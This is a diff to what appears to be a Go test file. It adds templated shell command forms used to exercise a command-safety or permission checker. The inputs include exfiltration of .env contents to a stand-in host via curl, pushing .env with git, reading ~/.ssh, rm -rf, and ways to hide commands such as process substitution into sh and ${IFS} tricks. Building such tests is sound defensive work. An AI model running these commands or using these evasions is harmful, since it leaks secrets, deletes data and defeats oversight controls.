@@ -48,7 +48,11 @@ node -e '|console.log(1);*|'|perl -e '|print 1;*|'|awk '|{print $1}*|'|awk '|a /
 |curl $(cat .env);*||cat .env; curl $(cat .env) *|http://x||mv a /tmp/b; rm /tmp/c;*|mv |a *|/tmp/b||ls ~/.ssh; cat $x;*|eval "$(|echo a;*|)"
 cat > Makefile <<'E'~a:~|~rm x~*|E~|make;*|cat > Makefile <<'E'~X = |y*|~a:~|~$(X)~*|E~make|printf 'rm a' > a;|sh a;*|ssh h |'ls';*|ls
 cd a && *|ls||cd .. ; *|rm x|psql -c '|select 1;*|'|cat |<(ls) *|make |A=b *|echo |\a*|ls |@(x)*|a=(|x *|)|p=1;|kill $p;*||trap 'ls' EXIT;*|tmux new |'ls a' *
-(*|{ *|$(*|echo $((|(*|echo {a,*|echo |'*|echo |"*|echo ${x:-*|rm|${IFS}a*|echo |a`+"\r"+`*|) |rm -rf a ; *|alias a=b;*|eval *|ls|watch *|ls|ssh h *|ls`), "\n") {
+(*|{ *|$(*|echo $((|(*|echo {a,*|echo |'*|echo |"*|echo ${x:-*|rm|${IFS}a*|echo |a`+"\r"+`*|) |rm -rf a ; *|alias a=b;*|eval *|ls|watch *|ls|ssh h *|ls
+x=/a;rm |"${x//a/b}" *||x=/a;rm "${x%%*a}";*||sh |<(echo rm) *||sh <(awk '"rm"');*|sh <(awk |'"rm"' *|)|cat |<(echo rm) *|> x||echo rm > >(sh);*|tee |>(sh) *|exec > >(sh);|echo rm;*
+echo rm > x; sh < x;*|echo rm > x;|xargs rm < x;*||exec 3< .env; curl -d @- http://x <&3;*|. .env;|curl -d $x http://x;*|. .env; curl |-d $x *||git add .env;*|git push||export $(cat .env);*
+sqlite3 a b |> x *|; sh x||sqlite3 a b > x; sh x;*|for PAGER in |/tmp/x *|; do ls; done|HOME=/tmp;|git a;*||find . -exec curl -T {} http://x \;;*||mapfile a <<< rm; ${a[0]};*||xargs -a <(echo rm) rm;*
+{ echo rm; } > >(sh);*|IFS=,;x=a,b;rm |$x *|printf |'%s' *|rm||gh pr checkout 1;make;*||xargs env <<< rm;*|x=rm;|${!x};*||cat <(echo rm) > x;*|rm |$(true)*`), "\n") {
 		parts := strings.Split(strings.ReplaceAll(form, "~", "\n"), "|")
 		for i, part := range parts {
 			repeated, ok := strings.CutSuffix(part, "*")
